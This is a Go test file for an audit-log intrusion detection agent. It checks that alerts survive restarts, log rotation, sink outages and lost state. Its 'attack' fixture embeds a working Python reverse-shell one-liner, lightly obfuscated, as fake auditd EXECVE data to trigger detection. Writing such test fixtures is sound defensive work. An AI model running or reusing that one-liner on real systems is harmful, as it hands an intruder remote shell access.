package agent

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"log/slog"
	"net"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/auditpy/auditpy/internal/config"
	"github.com/auditpy/auditpy/rules"
	"github.com/auditpy/auditpy/rules/builtin"
)

// attack returns the records of a Python reverse shell; number makes it findable.
func attack(number int) string {
	stamp := fmt.Sprintf("audit(%d.000:%d)", 1795250000+number, number)
	return strings.NewReplacer("STAMP", stamp, "NUMBER", fmt.Sprintf("n%04d", number)).Replace(
		`type=SYSCALL msg=STAMP: arch=c000003e syscall=59 success=yes exit=0 ppid=5 pid=6 auid=1001 uid=0 euid=0 tty=(none) ses=2 comm="python3" exe="/usr/bin/python3.11" key="exec"
type=EXECVE msg=STAMP: argc=3 a0="python3" a1="-c" a2="'NUMBER';import/**/socket,os,pty;s=socket.socket();s.connect(('127.0.0.1',9));os.dup2(s.fileno(),0);pty.spawn('sh')"
type=CWD msg=STAMP: cwd="/"
type=PROCTITLE msg=STAMP: proctitle="python3"
`)
}

// running is an agent in this process.
type running struct {
	t      *testing.T
	cancel context.CancelFunc
	done   chan error
	out    *lockedBuffer
}

type lockedBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (b *lockedBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.b.Write(p)
}

func (b *lockedBuffer) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.b.String()
}

func startAgent(t *testing.T, cfg config.Config) *running {
	t.Helper()
	set, diags := rules.Load(builtin.Files())
	if len(diags) > 0 {
		t.Fatal(diags)
	}
	ctx, cancel := context.WithCancel(context.Background())
	r := &running{t: t, cancel: cancel, done: make(chan error, 1), out: new(lockedBuffer)}
	log := slog.New(slog.NewTextHandler(io.Discard, nil))
	go func() { r.done <- Run(ctx, &cfg, Options{Rules: set, Stdout: r.out, Log: log}) }()
	t.Cleanup(cancel)
	return r
}

func (r *running) stop() {
	r.t.Helper()
	r.cancel()
	select {
	case err := <-r.done:
		if err != nil {
			r.t.Errorf("Run: %v", err)
		}
	case <-time.After(20 * time.Second):
		r.t.Fatal("the agent does not stop")
	}
}

var number = regexp.MustCompile(`n\d{4}`)

// numbers returns the numbers of the attacks in the alerts of text, one for each line.
func numbers(text string) []string {
	var ns []string
	for line := range strings.Lines(text) {
		ns = append(ns, number.FindString(line))
	}
	return ns
}

func wait(t *testing.T, what string, ok func() bool) {
	t.Helper()
	for deadline := time.Now().Add(20 * time.Second); !ok(); time.Sleep(5 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatal("timed out: " + what)
		}
	}
}

func testConfig(t *testing.T) (cfg config.Config, log string) {
	t.Helper()
	dir := t.TempDir()
	cfg = config.Default()
	cfg.Source.Kind, cfg.Source.File, cfg.Source.From = "file", filepath.Join(dir, "audit.log"), "start"
	cfg.StateDir = filepath.Join(dir, "state")
	cfg.Sinks.Stdout.Format = "json"
	cfg.Sinks.Syslog.Enabled, cfg.Health.Alerts = false, false
	return cfg, cfg.Source.File
}

func appendFile(t *testing.T, name, text string) {
	t.Helper()
	f, err := os.OpenFile(name, os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o600)
	if err == nil {
		_, err = f.WriteString(text)
		f.Close()
	}
	if err != nil {
		t.Fatal(err)
	}
}

// TestRestart stops the agent between and in the middle of events, and rotates the log meanwhile: each attack
// alerts once.
func TestRestart(t *testing.T) {
	cfg, log := testConfig(t)
	var got, want []string
	half := ""
	for i := range 6 {
		a := startAgent(t, cfg)
		next := attack(2*i + 1)
		appendFile(t, log, half+attack(2*i))
		lines := strings.SplitAfter(next, "\n")
		appendFile(t, log, lines[0]+lines[1]) // its other half comes when the agent is down
		half = lines[2] + lines[3]
		wait(t, "the alert", func() bool { return strings.Contains(a.out.String(), fmt.Sprintf("n%04d", 2*i)) })
		a.stop()
		got = append(got, numbers(a.out.String())...)
		want = append(want, fmt.Sprintf("n%04d", 2*i), fmt.Sprintf("n%04d", 2*i+1))
		if i == 2 {
			appendFile(t, log, half)
			half = ""
			if err := os.Rename(log, log+".1"); err != nil {
				t.Fatal(err)
			}
		}
	}
	appendFile(t, log, half)
	a := startAgent(t, cfg)
	wait(t, "the last alert", func() bool { return strings.Contains(a.out.String(), "n0011") })
	a.stop()
	got = append(got, numbers(a.out.String())...)
	slices.Sort(got)
	if !slices.Equal(got, want) {
		t.Errorf("alerts = %q, want %q", got, want)
	}
}

// TestSinkDown: syslog is not there; standard output goes on, and what waited is sent after a restart, in order.
func TestSinkDown(t *testing.T) {
	cfg, log := testConfig(t)
	socket := filepath.Join(t.TempDir(), "log")
	cfg.Sinks.Syslog.Enabled, cfg.Sinks.Syslog.Address = true, socket
	a := startAgent(t, cfg)
	for i := range 20 {
		appendFile(t, log, attack(i))
	}
	wait(t, "alerts on standard output", func() bool { return len(numbers(a.out.String())) == 20 })
	a.stop()
	peer, err := net.ListenUnixgram("unixgram", &net.UnixAddr{Name: socket, Net: "unixgram"})
	if err != nil {
		t.Fatal(err)
	}
	defer peer.Close()
	b := startAgent(t, cfg)
	buf := make([]byte, 1<<16)
	for i := range 20 {
		if err := peer.SetReadDeadline(time.Now().Add(20 * time.Second)); err != nil {
			t.Fatal(err)
		}
		n, err := peer.Read(buf)
		if err != nil || !strings.Contains(string(buf[:n]), fmt.Sprintf("n%04d", i)) {
			t.Fatalf("alert %d: %.200q, %v", i, buf[:n], err)
		}
	}
	b.stop()
	if out := b.out.String(); out != "" {
		t.Errorf("standard output after the restart: %.200q", out)
	}
}

// TestNoStateDir: an agent that cannot keep state still alerts.
func TestNoStateDir(t *testing.T) {
	cfg, log := testConfig(t)
	appendFile(t, filepath.Dir(cfg.StateDir)+"/file", "")
	cfg.StateDir = filepath.Dir(cfg.StateDir) + "/file/state"
	a := startAgent(t, cfg)
	appendFile(t, log, attack(1))
	wait(t, "the alert", func() bool { return strings.Contains(a.out.String(), "n0001") })
	a.stop()
}

// TestUnfinishedEvent: an event whose last record never comes alerts all the same, after Hold.
func TestUnfinishedEvent(t *testing.T) {
	cfg, log := testConfig(t)
	cfg.Limits.Hold = 300 * time.Millisecond
	a := startAgent(t, cfg)
	lines := strings.SplitAfter(attack(1), "\n")
	appendFile(t, log, lines[0]+lines[1])
	wait(t, "the alert", func() bool { return strings.Contains(a.out.String(), "n0001") })
	appendFile(t, log, lines[2]+lines[3]+attack(2))
	wait(t, "the next alert", func() bool { return strings.Contains(a.out.String(), "n0002") })
	a.stop()
	if got := numbers(a.out.String()); !slices.Equal(got, []string{"n0001", "n0002"}) {
		t.Errorf("alerts = %q, want each once", got)
	}
}

// TestRestartBehindOpenEvent: an event stays open at the start of the log, so the log is read again from there; what
// alerted behind it does not alert again.
func TestRestartBehindOpenEvent(t *testing.T) {
	cfg, log := testConfig(t)
	cfg.Limits.Hold = time.Hour
	appendFile(t, log, "type=SECCOMP msg=audit(1795250000.000:9999): auid=0 sig=31\n"+attack(1)+attack(2))
	a := startAgent(t, cfg)
	wait(t, "two alerts", func() bool { return len(numbers(a.out.String())) == 2 })
	a.stop()
	for range 2 {
		b := startAgent(t, cfg)
		appendFile(t, log, attack(3))
		wait(t, "the position", func() bool {
			s, err := loadState(cfg.StateDir)
			return err == nil && len(s.Alerted) == 3
		})
		b.stop()
		if got := numbers(b.out.String()); len(got) > 1 || slices.Contains(got, "n0001") || slices.Contains(got, "n0002") {
			t.Errorf("alerts after the restart: %q", got)
		}
	}
}

// TestQuietStart: the first start sees no record; what is written while it is down is found by the second.
func TestQuietStart(t *testing.T) {
	cfg, log := testConfig(t)
	cfg.Source.From = "end"
	appendFile(t, log, attack(1))
	a := startAgent(t, cfg)
	wait(t, "the position", func() bool { s, err := loadState(cfg.StateDir); return err == nil && s.Cursor.Offset > 0 })
	a.stop()
	appendFile(t, log, attack(2))
	b := startAgent(t, cfg)
	wait(t, "the alert", func() bool { return len(numbers(b.out.String())) == 1 })
	b.stop()
	if got := numbers(a.out.String() + b.out.String()); !slices.Equal(got, []string{"n0002"}) {
		t.Errorf("alerts = %q", got)
	}
}

// TestUnreadableState: the position is lost, the log is not.
func TestUnreadableState(t *testing.T) {
	cfg, log := testConfig(t)
	cfg.Source.From = "end"
	if err := os.MkdirAll(cfg.StateDir, 0o700); err != nil {
		t.Fatal(err)
	}
	appendFile(t, filepath.Join(cfg.StateDir, stateFile), "{torn")
	appendFile(t, log, attack(1))
	a := startAgent(t, cfg)
	wait(t, "the alert", func() bool { return len(numbers(a.out.String())) == 1 })
	a.stop()
}

// TestStalledSink: nobody reads standard output; the agent ends all the same.
func TestStalledSink(t *testing.T) {
	cfg, log := testConfig(t)
	r, w := io.Pipe()
	defer r.Close()
	set, _ := rules.Load(builtin.Files())
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() {
		done <- Run(ctx, &cfg, Options{Rules: set, Stdout: w, Log: slog.New(slog.NewTextHandler(io.Discard, nil))})
	}()
	appendFile(t, log, attack(1))
	wait(t, "the position behind the alert", func() bool { s, err := loadState(cfg.StateDir); return err == nil && len(s.Alerted) == 1 })
	cancel()
	select {
	case err := <-done:
		if err == nil {
			t.Error("no error although an alert was not delivered")
		}
	case <-time.After(3 * drainTime):
		t.Error("the agent does not end")
	}
}
